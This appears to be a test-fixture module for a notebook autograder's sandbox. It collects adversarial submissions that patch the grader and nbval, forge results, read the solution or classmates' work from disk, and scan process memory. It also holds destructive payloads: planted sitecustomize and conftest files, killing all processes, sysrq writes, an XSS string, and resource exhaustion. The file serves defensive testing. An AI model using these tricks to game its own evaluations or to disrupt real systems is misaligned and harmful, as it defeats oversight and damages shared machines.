"""Answers that want the point without the work, and some that only want to do harm.

Each is the code of the answer cell of exercise 1.1 of the made-up exercises. STORED stands for what
the check prints under the default seed, which everybody can read; PRISTINE for the folder of the
pristine exercises, CLASS for that of the submissions, GRADER for the number of the grader's
process, PORT for a port on which nobody listens and SERVER for one on which the tests do.
"""

WRONG = "double = lambda x: 0.0\n"
SAY_STORED = "exercises.check = lambda *answers: print('STORED')\n"

ATTACKS = {
    "replay the stored output": WRONG + SAY_STORED + "os.environ['CBAM_COURSE_SEED'] = '0'",
    "an object equal to everything": """
class Anything(float):
    __eq__ = lambda self, other: True
    __ne__ = lambda self, other: False
double = lambda x: Anything(0)
""",
    "cells that are rewritten before they run": WRONG
    + "get_ipython().input_transformers_cleanup.append(lambda lines: ['print(\"STORED\")\\n'])",
    "markers for nbval, and a check of its own": WRONG
    + "# NBVAL_SKIP\n# NBVAL_IGNORE_OUTPUT\n"
    + SAY_STORED
    + "exercises.check('1.1', double)",
    "the grader and nbval, patched": WRONG
    + """
import nbval.plugin
from cbam_course.grading import inside, outcome
outcome.Outcome.points = 1
nbval.plugin.IPyNbCell.compare_outputs = lambda *a, **k: True
inside.Comparison.pytest_runtest_makereport = lambda *a, **k: None
""",
    "files that Python and pytest read": WRONG
    + """
import sys
from pathlib import Path
evil = 'import nbval.plugin\\nnbval.plugin.IPyNbCell.runtest = lambda self: None\\n'
folders = {Path(p) for p in sys.path} | {Path.cwd(), Path.home(), Path('/'), Path(sys.prefix)}
for folder in folders:
    for name in ('conftest.py', 'sitecustomize.py', 'json.py', 'nbval.py', 'evil.pth'):
        try:
            (folder / name).write_text(evil)
        except OSError:
            pass
Path('pytest.ini').write_text('[pytest]\\naddopts = --nbval-lax\\n')
""",
    "the solution, or a classmate's, read from the disk": """
import json
from pathlib import Path
for path in [*Path('PRISTINE').rglob('*'), *Path('CLASS').rglob('*'), *Path('/').glob('*/*.ipynb')]:
    cells = json.loads(path.read_text())['cells']
    solution = next(c['source'] for c in cells if c.get('id') == 'solution-1-1')
    exec(solution.split('```python')[1].split('```')[0])
""",
    "outputs in the parent's memory": WRONG
    + """
import re
found = []
for process in os.listdir('/proc'):
    try:
        maps, memory = (open(f'/proc/{process}/{name}', 'rb') for name in ('maps', 'mem'))
        for line in maps.read().decode().splitlines():
            start, end = (int(n, 16) for n in line.split()[0].split('-'))
            if ' rw' in line and end - start < 10**8 and int(process) != os.getpid():
                memory.seek(start)
                found += re.findall(rb'1\\.1 -?\\d+\\.\\d{6}', memory.read(end - start))
    except (OSError, ValueError):
        pass
exercises.check = lambda *answers: print(found[-1].decode() if found else 'nothing')
""",
    "forged results": WRONG
    + """
import json
line = json.dumps({'passed': True, 'cell': 2, 'message': '', 'outputs': []})
for process in filter(str.isdigit, os.listdir('/proc')):
    for number in range(30):
        try:
            with open(f'/proc/{process}/fd/{number}', 'r+') as file:
                file.write(f'begun\\n{line}')
        except OSError:
            pass
os.kill(os.getppid(), 9)
""",
    "another kernel loop": WRONG
    + """
kernel = get_ipython().kernel
async def do_execute(*a, **k):
    kernel.send_response(kernel.iopub_socket, 'stream', {'name': 'stdout', 'text': 'STORED\\n'})
    return dict(status='ok', execution_count=1, payload=[], user_expressions={})
kernel.do_execute = do_execute
""",
    "errors and outputs that are none": WRONG
    + """
kernel = get_ipython().kernel
def forge(*answers):
    for kind, content in (('error', {'ename': 5, 'evalue': None, 'traceback': 7}),
                          ('display_data', {'data': 5, 'metadata': []})):
        kernel.session.send(kernel.iopub_socket, kind, content, parent=kernel.get_parent())
exercises.check = forge
""",
    "a page that runs scripts": """
def double(x):
    page = '</pre><script>alert(1)</script><img src=x onerror=alert(1)>'
    raise ValueError(page + ' \\x1b[2J\\x1b]0;t\\a')
""",
    "os._exit in the check": "def double(x):\n    os._exit(0)",
    # The three that got through an earlier sandbox.
    "a limit for the grader": WRONG
    + """
import resource
for process in {GRADER, *map(int, filter(str.isdigit, os.listdir('/proc')))}:
    try:
        resource.prlimit(process, resource.RLIMIT_CPU, (1, 1))
    except OSError:
        pass
""",
    "an end for everybody": "import signal\nos.kill(-1, signal.SIGKILL)",
    "a listener, and a call": WRONG
    + """
import socket, threading
server = socket.create_server(('0.0.0.0', PORT))
threading.Thread(target=server.accept, daemon=True).start()
for host in ('127.0.0.1', '0.0.0.0'):
    try:
        socket.create_connection((host, SERVER), timeout=2).send(b'stolen')
    except OSError:
        pass
""",
    "a file that steers the machine": """
for name in ('sysrq-trigger', 'sys/kernel/core_pattern', 'sys/kernel/hostname'):
    try:
        os.close(os.open(f'/proc/{name}', os.O_WRONLY))
        double = lambda x: 2 * x
    except OSError:
        pass
""",
    "children that stay": WRONG
    + """
import subprocess
subprocess.Popen(['sleep', '98765'], start_new_session=True)
if os.fork() == 0:
    os.setsid()
    os.execvp('sleep', ['sleep', '98765'])
""",
    "all of the disk": "open('large', 'wb').write(bytes(3 * 10**8))\n" + WRONG,
    "all of the memory disk": """
for number in range(40):
    open(f'/dev/shm/{number}', 'wb').write(bytes(10**7))
"""
    + WRONG,
    "all memory": "rest = bytearray(10**10)\n" + WRONG,
}

# Ended by the grader's look at all processes together, or at its clock.
EXCESSES = {
    "it started more than 50 processes": """
import subprocess, time
children = [subprocess.Popen(['sleep', '98765'], start_new_session=True) for _ in range(80)]
time.sleep(98765)
""",
    "it used more than 0.5 GB of memory": """
import time
for _ in range(6):
    if os.fork() == 0:
        rest = b'x' * 150_000_000
        time.sleep(98765)
time.sleep(98765)
""",
}
ENDLESS = """
import signal
signal.signal(signal.SIGINT, signal.SIG_IGN)
while True:
    pass
"""
